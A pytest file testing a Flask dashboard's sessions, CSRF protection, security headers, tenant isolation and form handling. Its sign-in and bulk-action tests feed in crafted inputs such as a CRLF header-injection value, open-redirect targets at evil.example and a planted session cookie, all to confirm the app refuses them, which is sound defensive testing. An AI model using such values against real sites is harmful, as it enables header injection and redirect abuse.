"""The dashboard through Flask's test client: sessions, CSRF, tenant isolation, and every page empty and
populated."""
import codecs
import csv
import html
import io
import re
import time
from datetime import timedelta
from urllib.parse import parse_qs, quote, unquote, urlsplit

import pytest
from sqlalchemy import delete, select, update
from sqlalchemy.orm import Session

from app.common import utcnow
from app.database import write_transaction
from app.extensions import db
from app.dashboard import presenters, views
from app.errors import ValidationFailed
from app.models import Account, DashboardSession, Event, Subscription
from app.services import dashboard_sessions, events, keys, webhooks
from app.services.transport import sign
from tests.conftest import make_tenant, subscription_count
from app.worker.deliveries import deliver_due
from tests.dashboard_helpers import Browser, csrf_of, sign_in
from tests.webhook_helpers import LOCAL_RECEIVER_CONFIG, Receiver, Reply, configure, record_events, subscribe

PAGES = ("/", "/subscriptions", "/events", "/deliveries", "/webhook", "/keys")


@pytest.fixture
def app_config():
    return LOCAL_RECEIVER_CONFIG


@pytest.fixture
def browser(app, alice):
    return Browser(app, alice.key)


def session_rows():
    db.session.rollback()
    return db.session.scalars(select(DashboardSession)).all()


# --- signing in and out ---------------------------------------------------------------------------

@pytest.mark.parametrize("path", PAGES + ("/subscriptions/sub_x",))
def test_every_page_sends_a_stranger_to_sign_in(anon, path):
    response = anon.client.get(path)
    assert response.status_code == 302
    assert response.headers["Location"].startswith("/login?next=")


def test_every_dashboard_answer_forbids_framing_and_foreign_scripts_and_the_api_has_a_policy_of_its_own(
        browser, anon, alice):
    """No CSP and no X-Frame-Options: the session cookie's SameSite kept a framed page signed out, but nothing
    stopped an injected script or style from running, nor another site framing the sign-in page (walk)."""
    upload = (io.BytesIO(b"LinkedIn URL\nhttps://www.linkedin.com/in/jane\n"), "crm.csv")
    answers = [anon.client.get("/login"), anon.client.get("/assets/dashboard.js"), browser.get("/"),
               browser.get("/subscriptions/sub_missing"), browser.get("/events?status=nonsense"),
               browser.post("/subscriptions/import", data={"file": upload}, content_type="multipart/form-data")]
    for response in answers:
        response.get_data()
        policy = response.headers["Content-Security-Policy"]
        assert "default-src 'none'" in policy and "script-src 'self'" in policy, response.request.path
        assert "frame-ancestors 'none'" in policy and "form-action 'self'" in policy
        assert response.headers["X-Frame-Options"] == "DENY"
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert response.headers["Referrer-Policy"] == "same-origin"
    assert {response.status_code for response in answers} >= {200, 404}
    api = alice.get("/account")  # the API's answers: a policy under which nothing runs, not the dashboard's
    assert api.status_code == 200
    assert api.headers["Content-Security-Policy"] == "default-src 'none'; frame-ancestors 'none'"


def test_signing_in_sets_a_strict_httponly_cookie_holding_no_key(app, alice):
    client = app.test_client()
    response = sign_in(client, alice.key)
    assert response.status_code == 302 and response.headers["Location"] == "/"
    cookie = next(value for value in response.headers.getlist("Set-Cookie") if value.startswith("em_session="))
    assert "HttpOnly" in cookie and "SameSite=Strict" in cookie and "Secure" not in cookie
    assert alice.key not in cookie and alice.key[-8:] not in cookie
    [row] = session_rows()
    token = cookie.split(";")[0].split("=", 1)[1]
    assert row.token_hash == keys.hash_key(token) and row.account_id == alice.account_id
    assert "Alice Inc" in client.get("/").get_data(as_text=True)


def test_the_cookies_are_secure_and_host_only_over_https(app, alice):
    client = app.test_client()
    page = client.get("/login", base_url="https://localhost")
    [login_cookie] = page.headers.getlist("Set-Cookie")
    assert login_cookie.startswith("__Host-em_login_csrf=") and "Secure" in login_cookie
    response = client.post("/login", base_url="https://localhost",
                           data={"api_key": alice.key, "csrf_token": csrf_of(page.get_data(as_text=True))})
    cookies = response.headers.getlist("Set-Cookie")
    cookie = next(value for value in cookies if value.startswith("__Host-em_session="))
    assert "Secure" in cookie and "Path=/" in cookie and "Domain" not in cookie
    removed = next(value for value in cookies if value.startswith("__Host-em_login_csrf="))
    assert "Secure" in removed and "Max-Age=0" in removed  # a browser drops a __Host- cookie only so
    assert "Alice Inc" in client.get("/", base_url="https://localhost").get_data(as_text=True)
    signed_out = client.post("/logout", base_url="https://localhost", data={"csrf_token": csrf_of(
        client.get("/", base_url="https://localhost").get_data(as_text=True))})
    assert any(value.startswith("__Host-em_session=") and "Secure" in value and "Max-Age=0" in value
               for value in signed_out.headers.getlist("Set-Cookie"))


def test_over_https_a_session_cookie_without_the_host_prefix_is_not_read(app, alice):
    """A sibling subdomain can set `em_session` for the whole domain, never a `__Host-` cookie: a session of an
    account of its own planted so would have had the victim import their CRM list into it (security walk)."""
    token = sign_in(app.test_client(), alice.key).headers["Set-Cookie"].split(";")[0].split("=", 1)[1]
    planted = app.test_client()
    planted.set_cookie("em_session", token, domain="localhost")
    response = planted.get("/", base_url="https://localhost")
    assert response.status_code == 302 and response.headers["Location"].startswith("/login")
    prefixed = app.test_client()
    prefixed.set_cookie("__Host-em_session", token, domain="localhost")
    assert "Alice Inc" in prefixed.get("/", base_url="https://localhost").get_data(as_text=True)


def test_a_wrong_key_is_refused_with_the_apis_message_and_no_session(app, alice):
    client = app.test_client()
    response = sign_in(client, "lwa.sk_live_" + "x" * 32)
    assert response.status_code == 401
    assert keys.INVALID_MESSAGE in response.get_data(as_text=True)
    assert session_rows() == []


def test_sign_in_returns_to_the_page_asked_for_but_never_off_site(app, alice):
    client = app.test_client()
    page = client.get("/login?next=/events")
    response = client.post("/login?next=/events", data={"api_key": alice.key,
                                                        "csrf_token": csrf_of(page.get_data(as_text=True))})
    assert response.headers["Location"] == "/events"
    page = client.get("/login?next=//evil.example/x")
    response = client.post("/login?next=//evil.example/x", data={
        "api_key": alice.key, "csrf_token": csrf_of(page.get_data(as_text=True))})
    assert response.headers["Location"] == "/"
    for crafted in ("/x%0d%0aSet-Cookie:%20a=b", "/%0ax", "/x%7f"):  # no Location header may hold these: a 500
        page = client.get(f"/login?next={crafted}")
        response = client.post(f"/login?next={crafted}", data={
            "api_key": alice.key, "csrf_token": csrf_of(page.get_data(as_text=True))})
        assert (response.status_code, response.headers["Location"]) == (302, "/")


def test_sign_in_returns_to_the_page_asked_for_as_it_was_sent(app, alice):
    """`next` was the decoded path: an event id holding `?` (`%3F`) came back as another address."""
    client = app.test_client()
    sign_in = client.get("/events/evt_a%3Fb?x=1").headers["Location"]
    page = client.get(sign_in)
    response = client.post(sign_in, data={"api_key": alice.key, "csrf_token": csrf_of(page.get_data(as_text=True))})
    assert response.headers["Location"] == "/events/evt_a%3Fb?x=1"


def test_the_sign_in_form_needs_its_csrf_token(app, alice):
    client = app.test_client()
    client.get("/login")
    response = client.post("/login", data={"api_key": alice.key, "csrf_token": "forged"})
    assert response.status_code == 403
    assert session_rows() == []


@pytest.mark.parametrize("app_config", [{**LOCAL_RECEIVER_CONFIG, "RATELIMIT_UNAUTHENTICATED": 3}])
def test_failed_sign_ins_share_the_unauthenticated_limit(app, alice):
    client = app.test_client()
    statuses = [sign_in(client, "lwa.sk_live_" + "y" * 32).status_code for _ in range(4)]
    assert statuses == [401, 401, 401, 429]
    refused = sign_in(client, "lwa.sk_live_" + "y" * 32)
    assert int(refused.headers["Retry-After"]) >= 1
    # the address is what is limited, not a key (it said "This key can be used again": dashboard walk)
    assert "from this address. Try again in" in refused.get_data(as_text=True)
    assert "This key" not in refused.get_data(as_text=True)
    assert alice.get("/account").status_code == 200  # keyed API calls are not in that bucket


def test_sign_out_ends_the_session(browser):
    response = browser.post("/logout")
    assert response.status_code == 302 and "signed_out=1" in response.headers["Location"]
    assert session_rows() == []
    assert browser.get("/").status_code == 302


def test_an_expired_session_is_refused_and_later_pruned(app, alice, browser):
    with write_transaction() as session:
        for row in session.scalars(select(DashboardSession)):
            row.expires_at = utcnow()
    assert browser.get("/").status_code == 302
    sign_in(app.test_client(), alice.key)
    assert len(session_rows()) == 1  # the expired one was deleted by the next sign-in


def test_revoking_the_key_ends_its_sessions(app, alice, browser):
    browser.post("/keys", data={"name": "second"})
    current = next(key for key in keys.list_keys(alice.account_id) if key.name != "second")
    other = Browser(app, alice.key)
    response = other.post(f"/keys/{current.id}/revoke")
    assert response.status_code == 302
    assert session_rows() == []
    assert browser.get("/").status_code == 302


# --- CSRF and isolation ----------------------------------------------------------------------------

def test_revoking_the_sessions_own_key_warns_that_it_signs_you_out(browser, alice):
    """Its question read as any other key's, then the page went to sign-in without a word (browser walk)."""
    keys.create_key(alice.account_id, "CRM sync")
    questions = re.findall(r'data-confirm="([^"]*)"', browser.text("/keys"))
    assert len(questions) == 2
    assert sum("this signs you out" in question for question in questions) == 1


def test_a_post_without_the_csrf_token_is_refused_and_changes_nothing(browser, alice):
    subscription = subscribe(alice.account_id)
    response = browser.client.post(f"/subscriptions/{subscription.id}/cancel")
    assert response.status_code == 403
    assert "security token" in response.get_data(as_text=True)
    response = browser.client.post(f"/subscriptions/{subscription.id}/cancel", data={"csrf_token": "x" * 43})
    assert response.status_code == 403
    assert subscription_count(alice.account_id, status="active") == 1


def test_a_form_of_a_page_opened_before_signing_in_again_links_back_and_signing_out_still_works(app, alice):
    """Signing in again in another tab left every older tab's forms refused with a dead end (reloading sent the stale
    token again) and its Sign out refused too, the browser staying signed in (dashboard walk)."""
    older = Browser(app, alice.key)
    subscription = subscribe(alice.account_id)
    with write_transaction() as session:  # the session ends; another tab signs in again: a new session and token
        session.execute(update(DashboardSession).values(expires_at=utcnow() - timedelta(minutes=1)))
    assert sign_in(older.client, alice.key).status_code == 302
    assert csrf_of(older.client.get("/").get_data(as_text=True)) != older.csrf
    refused = older.client.post(f"/subscriptions/{subscription.id}/cancel", data={"csrf_token": older.csrf},
                                headers={"Referer": f"http://localhost/subscriptions/{subscription.id}?page=2"})
    page = refused.get_data(as_text=True)
    assert refused.status_code == 403 and "data-keeps-form" in page
    assert f'href="/subscriptions/{subscription.id}?page=2">Open the page again' in page
    assert subscription_count(alice.account_id, status="active") == 1
    elsewhere = older.client.post(f"/subscriptions/{subscription.id}/cancel", data={"csrf_token": older.csrf},
                                  headers={"Referer": "https://evil.example//evil.example/x"}).get_data(as_text=True)
    assert 'href="/">Open the page again' in elsewhere  # a path of this site, whatever the Referer holds
    not_ours = older.client.post("/logout", data={}, headers={"Sec-Fetch-Site": "same-site"})
    assert not_ours.status_code == 403 and older.client.get("/subscriptions").status_code == 200  # (review)
    signed_out = older.client.post("/logout", data={"csrf_token": older.csrf},
                                   headers={"Sec-Fetch-Site": "same-origin"})
    assert signed_out.status_code == 302 and "/login" in signed_out.headers["Location"]
    assert older.client.get("/subscriptions").status_code == 302  # to the sign-in page: signed out


def test_another_accounts_ids_are_404_pages(app, alice, bob, browser):
    theirs = subscribe(bob.account_id, "bobs-person")
    [event_id] = record_events(bob.account_id, subscription=theirs)
    for path in (f"/subscriptions/{theirs.id}", f"/events/{event_id}"):
        response = browser.get(path)
        assert response.status_code == 404 and "Not found" in response.get_data(as_text=True)
        assert "bobs-person" not in response.get_data(as_text=True)
    for path in (f"/subscriptions/{theirs.id}/cancel", f"/subscriptions/{theirs.id}/metadata",
                 f"/events/{event_id}/redeliver"):
        assert browser.post(path, data={"custom_metadata": "{}"}).status_code == 404
    bobs_key = keys.list_keys(bob.account_id)[0]
    assert browser.post(f"/keys/{bobs_key.id}/revoke").status_code == 404
    browser.post("/subscriptions/bulk", data={"ids": theirs.id, "action": "cancel"})
    assert subscription_count(bob.account_id, status="active") == 1
    assert "bobs-person" not in browser.text("/subscriptions") and event_id not in browser.text("/events")


# --- pages, empty -------------------------------------------------------------------------------------

def test_a_new_account_sees_what_to_do_first(browser):
    overview = browser.text("/")
    assert "Get started" in overview and "Set your webhook endpoint" in overview and "Add a subscription" in overview
    assert "No subscriptions yet" in browser.text("/subscriptions")
    assert "No events yet" in browser.text("/events")
    assert "No delivery attempts yet" in browser.text("/deliveries")
    assert "Set your endpoint" in browser.text("/webhook")
    assert "Default key" in browser.text("/keys")


def test_the_charts_scale_reads_as_the_busiest_day_and_an_empty_one_says_so(browser, alice):
    """It read "1 / day" with no event at all, and "290 / day" for a scale's top, taken for a daily rate (browser
    walk)."""
    assert "no events yet</text>" in browser.text("/") and "/ day" not in browser.text("/")
    record_events(alice.account_id, count=2)
    assert "busiest day 2</text>" in browser.text("/")


@pytest.mark.parametrize("path", PAGES)
def test_every_control_has_a_label(browser, path):
    html = browser.text(path)
    ids = set(re.findall(r'<(?:input|select|textarea)[^>]*\bid="([^"]+)"', html))
    labelled = set(re.findall(r'<label for="([^"]+)"', html))
    assert ids <= labelled
    for control in re.findall(r'<(?:input|select|textarea)\b[^>]*>', html):
        if 'type="hidden"' in control or "id=" in control or "aria-label=" in control:
            continue
        start = html.index(control)
        assert html.rfind('<label class="inline">', 0, start) > html.rfind("</label>", 0, start), control


# --- subscriptions --------------------------------------------------------------------------------------

def test_add_by_url_then_pause_resume_cancel(browser, alice):
    response = browser.post("/subscriptions", data={"url": "linkedin.com/in/jane-doe", "entity_type": ""})
    assert response.status_code == 302 and "/subscriptions/sub_" in response.headers["Location"]
    page = browser.text(response.headers["Location"])
    assert "jane-doe" in page and "Subscribed to linkedin.com/in/jane-doe." in page
    subscription_id = response.headers["Location"].rsplit("/", 1)[1]
    browser.post(f"/subscriptions/{subscription_id}/pause")
    assert subscription_count(alice.account_id, status="paused") == 1
    browser.post(f"/subscriptions/{subscription_id}/resume")
    assert subscription_count(alice.account_id, status="active") == 1
    browser.post(f"/subscriptions/{subscription_id}/cancel")
    assert subscription_count(alice.account_id, status="cancelled") == 1
    assert "Cancelled." in browser.text(f"/subscriptions/{subscription_id}")


def test_a_refused_add_says_why_and_creates_nothing(browser, alice):
    subscribe(alice.account_id, "jane-doe")
    response = browser.post("/subscriptions", data={"url": "https://www.linkedin.com/in/jane-doe"})
    assert response.status_code == 302
    assert "already exists" in browser.text("/subscriptions")
    browser.post("/subscriptions", data={"url": "https://example.com/nothing", "entity_type": "company"})
    assert subscription_count(alice.account_id) == 1
    page = browser.text("/subscriptions")  # what was typed is there again to be corrected
    assert 'value="https://example.com/nothing"' in page and '<option value="company" selected>' in page
    assert 'value="https://example.com/nothing"' not in browser.text("/subscriptions")  # once, with its notice


def test_pasted_rows_and_a_file_together_are_refused_not_half_imported(browser, alice):
    """The pasted rows were ignored without a word when a file was chosen too (walk)."""
    upload = (io.BytesIO(b"url\nhttps://www.linkedin.com/in/from-file\n"), "crm.csv")
    response = browser.post("/subscriptions/import", data={"file": upload, "rows": "linkedin.com/in/pasted"},
                            content_type="multipart/form-data")
    assert response.status_code == 302 and subscription_count(alice.account_id) == 0
    page = browser.text("/subscriptions")
    assert "Paste a list or choose a file, not both" in page and ">linkedin.com/in/pasted</textarea>" in page


def test_a_refused_add_says_why_in_the_forms_words(browser, alice):
    """It spoke of the importer's cells and columns ("A bare id needs an entity_type column"): walk."""
    browser.post("/subscriptions", data={"url": "jane-doe", "entity_type": ""})
    assert "An id alone needs its type: choose contact or company under Type." in browser.text("/subscriptions")
    browser.post("/subscriptions", data={"url": "  ", "entity_type": ""})
    assert "Enter a profile URL, or an id with its type." in browser.text("/subscriptions")
    browser.post("/subscriptions", data={"url": "jane-doe", "entity_type": "contact"})
    assert subscription_count(alice.account_id) == 1


def test_search_filters_and_pages(browser, alice):
    for index in range(55):
        subscribe(alice.account_id, f"person-{index:02d}")
    subscribe(alice.account_id, "globex", "company")
    first = browser.text("/subscriptions")
    assert "56 subscriptions" in first and "Page 1 of 2" in first
    assert "person-54" in first and "person-00" not in first
    assert "person-00" in browser.text("/subscriptions?page=2")
    found = browser.text("/subscriptions?search=PERSON-1")
    assert "10 subscriptions" in found
    assert "1 subscription<" in browser.text("/subscriptions?entity_type=company")
    assert "Nothing matches" in browser.text("/subscriptions?status=paused")


def test_bulk_actions_on_the_selected(browser, alice):
    ids = [subscribe(alice.account_id, f"p{index}").id for index in range(3)]
    browser.post("/subscriptions/bulk", data={"ids": ids[:2], "action": "pause"})
    assert subscription_count(alice.account_id, status="paused") == 2
    browser.post("/subscriptions/bulk", data={"ids": ids, "action": "cancel"})
    assert subscription_count(alice.account_id, status="cancelled") == 3
    assert "Cancel: 3 done." in browser.text("/subscriptions")
    browser.post("/subscriptions/bulk", data={"ids": [f"sub_{index}" for index in range(101)], "action": "pause"})
    assert "Send 1 to 100 subscription ids." in browser.text("/subscriptions")  # the API's cap of 100, same message


def _list_query_of(page: str, action: str) -> str:
    """The list view the form posting to `action` carries (its hidden `list_query`), as the browser sends it."""
    form = page.split(f'action="{action}"')[1].split("</form>")[0]
    shown = re.search(r'name="list_query" value="([^"]*)"', form)
    return html.unescape(shown.group(1)) if shown else ""


def test_a_bulk_action_comes_back_to_the_list_view_it_was_sent_from(browser, alice, monkeypatch):
    """It came back to page 1 of the whole list, the search, filters and page lost (browser walk)."""
    monkeypatch.setattr(views, "PAGE_SIZE", 2)
    ids = [subscribe(alice.account_id, f"person-{index}").id for index in range(5)]
    subscribe(alice.account_id, "globex", "company")
    view = "/subscriptions?search=person&status=active&entity_type=contact&page=2"
    shown = _list_query_of(browser.text(view), "/subscriptions/bulk")
    response = browser.post("/subscriptions/bulk", data={"ids": ids[2], "action": "pause", "list_query": shown})
    assert response.status_code == 302 and response.headers["Location"] == view
    back = browser.text(view)
    assert "Pause: 1 done." in back and "Page 2 of 2" in back and "globex" not in back
    refused = browser.post("/subscriptions/bulk", data={"action": "pause", "list_query": shown})  # none selected
    assert refused.headers["Location"] == view and "Select at least one" in browser.text(view)
    # only the list's own parameters, written again: nothing leads off the site
    crafted = browser.post("/subscriptions/bulk", data={"ids": ids[3], "action": "pause", "list_query":
                                                        "next=https://evil.example/&page=//evil.example&status=x"})
    location = urlsplit(crafted.headers["Location"])
    assert (location.scheme, location.netloc, location.path) == ("", "", "/subscriptions")
    assert parse_qs(location.query) == {"page": ["//evil.example"], "status": ["x"]}
    assert browser.get(crafted.headers["Location"]).status_code == 302  # the unknown status: back to the list


@pytest.mark.parametrize("action, data, typed", [
    ("/subscriptions", {"url": "https://example.com/nothing"}, 'value="https://example.com/nothing"'),
    ("/subscriptions/import", {"rows": "name,owner\nfoo,bar"}, ">name,owner\nfoo,bar</textarea>")])
def test_a_refused_add_or_import_comes_back_to_the_list_view_it_was_sent_from(browser, alice, monkeypatch, action,
                                                                              data, typed):
    """They came back to page 1 of the whole list, its search, filters and page lost, as the bulk actions had (walk)."""
    monkeypatch.setattr(views, "PAGE_SIZE", 2)
    for index in range(5):
        subscribe(alice.account_id, f"person-{index}")
    subscribe(alice.account_id, "globex", "company")
    view = "/subscriptions?search=person&status=active&page=2"
    response = browser.post(action, data={**data, "list_query": _list_query_of(browser.text(view), action)})
    assert response.status_code == 302 and response.headers["Location"] == view
    back = browser.text(view)
    assert 'class="notice error"' in back and typed in back and "Page 2 of 3" in back and "globex" not in back


def test_an_imports_result_links_back_to_the_list_view_it_was_sent_from(browser, alice):
    """Its *Back to subscriptions* led to page 1 of the whole list (walk)."""
    view = "/subscriptions?search=person&entity_type=contact&page=2"
    shown = _list_query_of(browser.text(view), "/subscriptions/import")
    result = browser.post("/subscriptions/import", data={"rows": "linkedin.com/in/person-x", "list_query": shown})
    assert "<strong>1 subscribed</strong>" in result.get_data(as_text=True)
    assert f'<a href="{html.escape(view)}">Back to subscriptions</a>' in result.get_data(as_text=True)


def _back_link_of(page: str) -> str:
    return html.unescape(re.search(r'<a href="([^"]*)">← Subscriptions</a>', page).group(1))


def test_a_subscription_opened_from_a_list_view_leads_back_to_it_after_its_forms(browser, alice, monkeypatch):
    """Its *← Subscriptions* led to page 1 of the whole list, after a pause or a new subscription too: the list's
    search, filters and page were lost on the way to one subscription (walk)."""
    monkeypatch.setattr(views, "PAGE_SIZE", 2)
    for index in range(5):
        subscribe(alice.account_id, f"person-{index}")
    view = "/subscriptions?search=person&status=active&page=2"
    listed = browser.text(view)
    opened = html.unescape(re.search(r'href="(/subscriptions/sub_[^"]+)"', listed).group(1))
    assert _back_link_of(browser.text(opened)) == view
    pause = html.unescape(re.search(r'action="([^"]*/pause[^"]*)"', browser.text(opened)).group(1))
    paused = browser.post(pause)
    assert paused.headers["Location"] == opened and _back_link_of(browser.text(opened)) == view
    metadata = html.unescape(re.search(r'action="([^"]*/metadata[^"]*)"', browser.text(opened)).group(1))
    assert browser.post(metadata, data={"custom_metadata": "{}"}).headers["Location"] == opened
    added = browser.post("/subscriptions", data={"url": "linkedin.com/in/person-new",
                                                 "list_query": _list_query_of(listed, "/subscriptions")})
    assert _back_link_of(browser.text(added.headers["Location"])) == view
    assert _back_link_of(browser.text(opened.split("?")[0])) == "/subscriptions"  # opened from no list: the whole
    assert "?list=" not in browser.text("/subscriptions")  # (which needs none in its links)


def test_a_subscriptions_page_carries_only_the_lists_own_view_in_its_list(browser, alice):
    """`list=` was carried as it came, into every link and form of the page and the add's redirect: any parameter of
    the list's address (a tracking tag), or a crafted `list` of kilobytes, went on in each of them (a 10 kB one made
    a 10 kB Location, beyond what a proxy takes), though only the search, filters and page are read back."""
    subscription = subscribe(alice.account_id, "person-1")
    listed = browser.text("/subscriptions?search=person&utm_source=mail&status=active")
    assert "utm_source" not in re.search(r'href="(/subscriptions/sub_[^"]+)"', listed).group(1)
    junk = "search=person&" + "x=" + "y" * 10_000 + "&status=active"
    page = browser.text(f"/subscriptions/{subscription.id}?list={quote(junk)}")
    pause = html.unescape(re.search(r'action="([^"]*/pause[^"]*)"', page).group(1))
    assert parse_qs(urlsplit(pause).query) == {"list": ["search=person&status=active"]}
    assert len(page) < 8_000
    added = browser.post("/subscriptions", data={"url": "linkedin.com/in/person-2", "list_query": junk})
    assert parse_qs(urlsplit(added.headers["Location"]).query) == {"list": ["search=person&status=active"]}
    not_a_list = browser.text(f"/subscriptions/{subscription.id}?list=nothing%3Dhere")
    assert "list=" not in re.search(r'action="([^"]*/pause[^"]*)"', not_a_list).group(1)
    crafted = browser.text(f"/subscriptions/{subscription.id}?list=search%3D%2500%26status%3Dactive")
    assert _back_link_of(crafted) == "/subscriptions?status=active"  # a NUL: the list's 400 (review)


def test_a_subscriptions_form_url_opened_leads_to_its_page_with_the_list_it_was_opened_from(browser, alice):
    """Signed in again after a form was sent once the session had ended, the form's URL led to its page without the
    list view its actions carry: the kept text was not given back (browser test) and *← Subscriptions* led to the whole
    list."""
    subscription = subscribe(alice.account_id)
    opened = browser.get(f"/subscriptions/{subscription.id}/metadata?list=search%3Djane")
    assert opened.status_code == 303
    assert opened.headers["Location"] == f"/subscriptions/{subscription.id}?list=search%3Djane"
    assert browser.get(f"/subscriptions/{subscription.id}/pause").headers["Location"] == (
        f"/subscriptions/{subscription.id}")  # (none to keep)


def test_metadata_is_edited_as_json_and_bad_json_changes_nothing(browser, alice):
    subscription = subscribe(alice.account_id)
    browser.post(f"/subscriptions/{subscription.id}/metadata", data={"custom_metadata": '{"owner": "sam"}'})
    assert "&#34;owner&#34;: &#34;sam&#34;" in browser.text(f"/subscriptions/{subscription.id}")
    browser.post(f"/subscriptions/{subscription.id}/metadata", data={"custom_metadata": '{"owner": "sam",}'})
    page = browser.text(f"/subscriptions/{subscription.id}")
    assert "must be a JSON object" in page  # the box shows what was typed, to be corrected rather than retyped
    assert '>{&#34;owner&#34;: &#34;sam&#34;,}</textarea>' in page
    assert "&#34;owner&#34;: &#34;sam&#34;\n" in browser.text(f"/subscriptions/{subscription.id}")  # once
    browser.post(f"/subscriptions/{subscription.id}/metadata", data={"custom_metadata": "[" * 50_000})
    page = browser.text(f"/subscriptions/{subscription.id}")  # nesting the parser cannot take: same answer
    assert "must be a JSON object" in page and "&#34;sam&#34;" in page  # too long to keep: the saved one shown
    assert alice.get(f"/subscriptions/{subscription.id}").json["custom_metadata"] == {"owner": "sam"}
    browser.post(f"/subscriptions/{subscription.id}/metadata", data={"custom_metadata": "  \n "})
    assert alice.get(f"/subscriptions/{subscription.id}").json["custom_metadata"] == {}  # blank clears, as empty


def test_a_metadata_save_over_a_change_made_since_the_page_opened_is_refused_and_keeps_the_text(browser, alice):
    """The editor sends the whole object: a second member's save since the page was opened was overwritten unseen
    (browser walk: two members editing one subscription's owner)."""
    subscription = subscribe(alice.account_id)
    page = browser.text(f"/subscriptions/{subscription.id}")
    shown = html.unescape(re.search(r'name="shown_metadata" value="([^"]*)"', page).group(1))
    other_member = alice.patch(f"/subscriptions/{subscription.id}", json={"custom_metadata": {"owner": "bo"}})
    assert other_member.status_code == 200
    db.session.rollback()  # the test's session, which the client's requests share, reads the row again
    mine = '{"owner": "sam"}'
    browser.post(f"/subscriptions/{subscription.id}/metadata", data={"custom_metadata": mine, "shown_metadata": shown})
    page = browser.text(f"/subscriptions/{subscription.id}")
    assert "changed since the page was opened" in page and f">{mine}</textarea>" in html.unescape(page)
    assert alice.get(f"/subscriptions/{subscription.id}").json["custom_metadata"] == {"owner": "bo"}
    shown = html.unescape(re.search(r'name="shown_metadata" value="([^"]*)"', page).group(1))
    browser.post(f"/subscriptions/{subscription.id}/metadata", data={"custom_metadata": mine, "shown_metadata": shown})
    assert alice.get(f"/subscriptions/{subscription.id}").json["custom_metadata"] == {"owner": "sam"}  # saved again


@pytest.mark.parametrize("text", ['{"a": "\\ud800"}', '{"a": NaN}', '{"a": 1e999}'])
def test_metadata_the_api_would_refuse_is_refused_here_too_and_changes_nothing(browser, alice, text):
    """A lone surrogate saved here (the API refused it) failed every check batch holding the subscription, other
    accounts' included, and its CSV export and page."""
    subscription = subscribe(alice.account_id)
    browser.post(f"/subscriptions/{subscription.id}/metadata", data={"custom_metadata": '{"owner": "sam"}'})
    browser.post(f"/subscriptions/{subscription.id}/metadata", data={"custom_metadata": text})
    page = browser.text(f"/subscriptions/{subscription.id}")
    assert ("must be a JSON object" in page or "too large for a double" in page)
    assert text.replace('"', "&#34;") + "</textarea>" in page
    assert alice.get(f"/subscriptions/{subscription.id}").json["custom_metadata"] == {"owner": "sam"}


@pytest.mark.parametrize("form, data, page, api_path, says", [
    ("/subscriptions/{id}/metadata", {"custom_metadata": '{"foo": {"a": 1}}'}, "/subscriptions/{id}",
     "custom_metadata.foo.value", "Metadata key &#39;foo&#39;: Not a valid string."),
    ("/subscriptions", {"url": "https://example.com/jane"}, "/subscriptions", "network_url",
     "Invalid profile URL: the host must be linkedin.com"),
    ("/subscriptions", {"url": "https://www.linkedin.com/in/" + "a" * 2100}, "/subscriptions", "network_url",
     "Profile URL: Longer than maximum length 2048."),
    ("/webhook", {"endpoint_url": "ftp://example.com/x", "events": ["*"]}, None, "endpoint_url",
     "Endpoint URL must be an https:// URL."),
    ("/keys", {"name": "x" * 101}, None, "name", "Key name: Length must be between 1 and 100."),
])
def test_a_refusal_names_the_field_as_the_form_does_not_by_its_api_path(browser, alice, form, data, page, api_path,
                                                                        says):
    """`custom_metadata.foo.value: Not a valid string.` and the like, the API's field paths, were shown to people
    (walk); the API's JSON keeps them (contract)."""
    subscription = subscribe(alice.account_id)
    response = browser.post(form.format(id=subscription.id), data=data)
    shown = browser.text(page.format(id=subscription.id)) if page else response.get_data(as_text=True)
    assert re.search(r'class="notice error"[^>]*>([^<]*)</p>', shown).group(1).startswith(says)
    api = {"/subscriptions/{id}/metadata": lambda: alice.patch(f"/subscriptions/{subscription.id}", json={
               "custom_metadata": {"foo": {"a": 1}}}),
           "/subscriptions": lambda: alice.post("/subscriptions", json={"entity_type": "contact",
                                                                        "network_url": data["url"]}),
           "/webhook": lambda: alice.post("/webhooks/configure", json={"endpoint_url": data["endpoint_url"]}),
           "/keys": lambda: alice.post("/account/api-keys", json={"name": data["name"]})}[form]()
    assert api.status_code == 400 and api.json["details"]["field"] == api_path, api.json
    assert api.json["message"].startswith(api_path) or f"Invalid {api_path}:" in api.json["message"]


def test_a_whole_form_refusal_drops_marshmallows_body_path():
    assert presenters.refusal_in_form_words(ValidationFailed("body", "body: Give network_id or network_url.")) \
        == "Give profile id or profile URL."
    assert presenters.refusal_in_form_words(ValidationFailed("Name", "The Name cell is empty.")) \
        == "The Name cell is empty."  # a field the forms do not name (a CSV's column) is left as it is


def test_a_form_cut_short_is_refused_and_nothing_done(browser, alice):
    """A form whose body ended before its Content-Length was acted on with its first half: the subscription of
    `jane-doe` for the `jane-doe-smith` typed (review)."""
    body = f"csrf_token={browser.csrf}&url=https%3A%2F%2Fwww.linkedin.com%2Fin%2Fjane-doe-smith&entity_type="
    cut = body[:body.index("-smith")]
    response = browser.client.post("/subscriptions", data=cut, content_type="application/x-www-form-urlencoded",
                                   environ_overrides={"CONTENT_LENGTH": str(len(body)), "wsgi.input_terminated": True})
    assert response.status_code == 400 and "ended after" in response.get_data(as_text=True)
    assert alice.get("/subscriptions").json["pagination"]["total"] == 0


def test_what_the_person_typed_is_quoted_in_a_refusal_as_typed(browser, alice):
    """A metadata key or an event type that happens to be an API field's name was rewritten in the form's words:
    "The JSON names 'profile URL' more than once" for a key typed `network_url` (review)."""
    subscription = subscribe(alice.account_id)
    browser.post(f"/subscriptions/{subscription.id}/metadata",
                 data={"custom_metadata": '{"network_url": "a", "network_url": "b"}'})
    shown = re.search(r'class="notice error"[^>]*>([^<]*)</p>', browser.text(f"/subscriptions/{subscription.id}"))
    assert "&#39;network_url&#39;" in shown.group(1) and "profile URL" not in shown.group(1), shown.group(1)
    assert presenters.refusal_in_form_words(ValidationFailed(
        "body", "The JSON names 'owner's network_url' more than once in one object.")) \
        == "The JSON names 'owner's network_url' more than once in one object."
    # ...while the words around what it quotes are still the form's (dashboard walk: the id rule's message, which
    # quotes '-' and '_', came back in the API's words)
    assert presenters.refusal_in_form_words(ValidationFailed("network_url", "Invalid network_url: network_id may hold "
                                                             "only letters, digits, '-', '_' and more.")) \
        == "Invalid profile URL: profile id may hold only letters, digits, '-', '_' and more."
    assert presenters.refusal_in_form_words(ValidationFailed("events", "Unknown event type 'endpoint_url'.")) \
        == "Unknown event type 'endpoint_url'."


@pytest.mark.parametrize("page", ["²", "1⁰", "٣", "99999999999999999999", "-1", "+2", "2.0", ""])
